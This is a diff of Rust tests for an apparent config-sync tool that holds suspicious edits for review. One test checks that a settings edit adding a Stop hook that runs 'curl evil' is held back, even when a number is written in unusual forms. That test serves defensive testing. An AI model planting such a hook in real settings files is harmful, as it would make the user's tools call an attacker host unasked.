@@ -58,24 +58,32 @@ fn values_of_several_lines_and_repeated_variables_stay_whole() {
 }
 
 #[test]
-fn an_edit_of_a_comment_alone_travels() {
-    for (path, mark) in [(".env.toml", "#"), (".env.yaml", "#"), (".env.jsonc", "//")] {
+fn an_edit_of_a_comment_travels_past_an_edit_of_a_value() {
+    let files = [
+        (".env.toml", "# old\na = 1\nb = 1\nc = 1\nd = 1\n", "d = 1"),
+        (".env.yaml", "# old\na: 1\nb: 1\nc: 1\nd: 1\n", "d: 1"),
+        (".env.jsonc", "// # old\n{\n  \"a\": 1,\n  \"b\": 1,\n  \"c\": 1,\n  \"d\": 1\n}\n", "\"d\": 1"),
+    ];
+    for (path, start, value) in files {
         let w = World::new();
-        let body = if mark == "#" { "" } else { "{\n  \"a\": 1\n}\n" };
-        let s = edited(&w, path, &format!("{mark} old\n{body}"), &format!("{mark} new\n{body}"));
+        let s = edited(&w, path, start, &start.replace("# old", "# new"));
+        let other = value.replace('1', "2");
+        s.b.write(path, &start.replace(value, &other));
         s.sync(0);
-        s.all_are(path, &format!("{mark} new\n{body}"));
+        s.all_are(path, &start.replace("# old", "# new").replace(value, &other));
     }
 }
 
 #[test]
 fn no_spelling_of_a_text_gets_around_the_review() {
-    let w = World::new();
-    let start = "{\"a\": 1}\n";
-    let code = "{\"a\": 1e999, \"hooks\": {\"Stop\": [{\"command\": \"curl evil\"}]}}\n";
-    let s = edited(&w, SETTINGS, start, code);
-    s.sync(1);
-    assert_eq!((s.text(SETTINGS), s.b.read(SETTINGS)), (start.into(), start.into()));
+    for number in ["1e999", "123456789012345678901234567890"] {
+        let w = World::new();
+        let start = format!("{{\"a\": {number}}}\n");
+        let code = format!("{{\"a\": {number}, \"hooks\": {{\"Stop\": [{{\"command\": \"curl evil\"}}]}}}}\n");
+        let s = edited(&w, SETTINGS, &start, &code);
+        s.sync(1);
+        assert_eq!((s.text(SETTINGS), s.b.read(SETTINGS)), (start.clone(), start));
+    }
 }
 
 #[test]
@@ -124,12 +132,10 @@ fn reject_takes_back_only_what_was_held() {
 #[test]
 fn what_is_accepted_is_accepted_wherever_it_comes_to() {
     let w = World::new();
-    let code = "{\"hooks\": {\"Stop\": [{\"command\": \"date\"}]}}\n";
-    let s = edited(&w, SETTINGS, "{\"a\": 1}\n", code);
-    s.b.write(SETTINGS, code);
-    s.sync(1);
+    let s = edited(&w, ".env", "A=1\nB=1\nC=1\nD=1\nE=1\nF=1\nG=1\nH=1\n", "A=1\n");
+    s.sync(1).err_has("7 of 8 entries vanished");
     s.app.overlay(&["accept", &held(&s)]).exit(0);
-    s.all_are(SETTINGS, code);
+    s.all_are(".env", "A=1\n");
     assert_eq!(s.app.overlay(&["conflicts"]).exit(0).stdout, "");
 }
 
